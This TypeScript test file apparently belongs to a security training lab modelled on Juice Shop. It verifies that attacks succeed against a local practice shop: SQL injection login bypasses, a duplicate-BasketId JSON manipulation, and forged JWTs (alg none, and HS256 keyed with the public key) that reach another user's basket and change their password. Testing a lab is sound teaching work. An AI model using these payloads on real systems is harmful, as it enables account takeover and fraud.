/**
 * The attacks the lab instruments really work on the practice shop, as on Juice Shop v20.1.1:
 * SQL injection login bypass, the duplicate-BasketId manipulation, and forged tokens accepted by the
 * legacy express-jwt 0.1.3 / jws 0.2 stack (alg none, RS256 -> HS256 with the public key).
 */
import crypto from 'node:crypto';
import { md5 } from '../../src/shop';
import { loginAs, payloadOf, startShop, type RunningShop } from './helpers';

let running: RunningShop;

beforeAll(async () => {
  running = await startShop({ mode: 'stock' });
});

afterAll(async () => {
  await running.stop();
});

const segment = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');

function forge(header: object, payload: object, sign: (input: string) => string): string {
  const input = `${segment(header)}.${segment(payload)}`;
  return `${input}.${sign(input)}`;
}

describe('SQL injection in the login', () => {
  test.each([
    ["' OR 1=1--", 1, 'admin@juice-sh.op'],
    ["admin@juice-sh.op'--", 1, 'admin@juice-sh.op'],
    ["jim@juice-sh.op'--", 2, 'jim@juice-sh.op'],
    ["bender@juice-sh.op'--", 3, 'bender@juice-sh.op'],
  ])('email %s logs in without the password as user %i', async (email, id, umail) => {
    const response = await running.http.post('/rest/user/login').send({ email, password: 'wrong' });
    expect(response.status).toBe(200);
    const { token, umail: mail } = (response.body as { authentication: { token: string; umail: string } }).authentication;
    expect(mail).toBe(umail);
    expect((payloadOf(token).data as { id: number }).id).toBe(id);
  });

  test("the bypass skips the TOTP user's password but not the second factor", async () => {
    const response = await running.http.post('/rest/user/login').send({ email: "wurstbrot@juice-sh.op'--", password: 'x' });
    expect(response.status).toBe(401);
    expect((response.body as { status: string }).status).toBe('totp_token_required');
  });

  test('a deleted user cannot log in with the right password (deletedAt IS NULL)', async () => {
    const response = await running.http.post('/rest/user/login').send({ email: 'chris.pike@juice-sh.op', password: 'uss enterprise' });
    expect(response.status).toBe(401);
  });

  test('a form-encoded login works too (bodyParser.urlencoded runs first)', async () => {
    const response = await running.http.post('/rest/user/login').type('form').send({ email: 'admin@juice-sh.op', password: 'admin123' });
    expect(response.status).toBe(200);
  });
});

describe('duplicate BasketId', () => {
  test('first key for the check, last key for the insert, in either order of other keys', async () => {
    const { token, bid } = await loginAs(running, 'jim@juice-sh.op', 'ncc-1701');
    expect(bid).toBe(2);
    const response = await running.http.post('/api/BasketItems').set('Authorization', `Bearer ${token}`)
      .set('Content-Type', 'application/json')
      .send('{"BasketId":"2","quantity":2,"BasketId":"3","ProductId":8}');
    expect(response.status).toBe(200);
    expect((response.body as { data: { BasketId: string; ProductId: number } }).data).toMatchObject({ BasketId: '3', ProductId: 8 });
  });

  test('the same trick with the foreign id first is refused', async () => {
    const { token } = await loginAs(running, 'jim@juice-sh.op', 'ncc-1701');
    const response = await running.http.post('/api/BasketItems').set('Authorization', `Bearer ${token}`)
      .set('Content-Type', 'application/json')
      .send('{"BasketId":"3","quantity":1,"BasketId":"2","ProductId":9}');
    expect(response.status).toBe(401);
  });

  test('the same product twice in one basket: 500 SequelizeUniqueConstraintError', async () => {
    const { token } = await loginAs(running, 'admin@juice-sh.op', 'admin123');
    const response = await running.http.post('/api/BasketItems').set('Authorization', `Bearer ${token}`).set('Accept', 'application/json')
      .send({ ProductId: 1, BasketId: '1', quantity: 1 });
    expect(response.status).toBe(500);
    expect((response.body as { error: { name: string; message: string } }).error).toMatchObject({ name: 'SequelizeUniqueConstraintError', message: 'Validation error' });
  });

  test('negative quantities pass the stock check (input validation is missing, as in Juice Shop)', async () => {
    const { token } = await loginAs(running, 'admin@juice-sh.op', 'admin123');
    const response = await running.http.post('/api/BasketItems').set('Authorization', `Bearer ${token}`)
      .send({ ProductId: 6, BasketId: '1', quantity: -10 });
    expect(response.status).toBe(200);
    expect((response.body as { data: { quantity: number } }).data.quantity).toBe(-10);
  });
});

describe('forged tokens (legacy express-jwt 0.1.3 semantics)', () => {
  const forgedPayload = { data: { id: 2, email: 'jim@juice-sh.op', password: md5('x'), role: 'admin', totpSecret: '' }, bid: 2, iat: 1 };

  test('alg none with an empty signature is accepted by isAuthorized()', async () => {
    const token = forge({ typ: 'JWT', alg: 'none' }, forgedPayload, () => '');
    const response = await running.http.get('/rest/basket/2').set('Authorization', `Bearer ${token}`);
    expect(response.status).toBe(200);
  });

  test('HS256 keyed with the public key PEM (algorithm confusion) is accepted', async () => {
    const token = forge({ typ: 'JWT', alg: 'HS256' }, forgedPayload,
      (input) => crypto.createHmac('sha256', running.shop.publicKeyPem).update(input).digest('base64url'));
    const response = await running.http.get('/rest/basket/1').set('Authorization', `Bearer ${token}`);
    expect(response.status).toBe(200);
  });

  test('a forged token also passes change-password (it joined the token registry)', async () => {
    const token = forge({ typ: 'JWT', alg: 'none' }, { ...forgedPayload, data: { ...forgedPayload.data, id: 3, email: 'bender@juice-sh.op' } }, () => '');
    await running.http.get('/rest/basket/3').set('Authorization', `Bearer ${token}`).expect(200);
    const response = await running.http.get('/rest/user/change-password?new=slurmCl4ssic&repeat=slurmCl4ssic').set('Authorization', `Bearer ${token}`);
    expect(response.status).toBe(200);
    expect((response.body as { user: { id: number; password: string } }).user).toMatchObject({ id: 3, password: md5('slurmCl4ssic') });
  });

  test.each([
    ['a bad RS256 signature', () => forge({ typ: 'JWT', alg: 'RS256' }, forgedPayload, () => 'AAAA'), 'invalid signature'],
    ['alg none with a signature', () => forge({ typ: 'JWT', alg: 'none' }, forgedPayload, () => 'abc'), 'invalid signature'],
    ['an expired token', () => running.shop.signToken({ ...forgedPayload, exp: 1 }), 'jwt expired'],
    ['an unknown algorithm', () => forge({ typ: 'JWT', alg: 'ES256' }, forgedPayload, () => 'abc'), '"ES256" is not a valid algorithm'],
  ])('%s: 401 invalid_token', async (_name, makeToken, message) => {
    const response = await running.http.get('/rest/basket/1').set('Authorization', `Bearer ${makeToken()}`).set('Accept', 'application/json');
    expect(response.status).toBe(401);
    const error = (response.body as { error: { code: string; message: string; name: string } }).error;
    expect(error).toMatchObject({ name: 'UnauthorizedError', code: 'invalid_token' });
    expect(error.message).toContain(message);
  });

  test('a header that is not "Bearer <token>": 401 credentials_bad_format', async () => {
    const response = await running.http.get('/rest/basket/1').set('Authorization', 'Bearer a b').set('Accept', 'application/json');
    expect(response.status).toBe(401);
    expect((response.body as { error: { code: string } }).error.code).toBe('credentials_bad_format');
  });
});
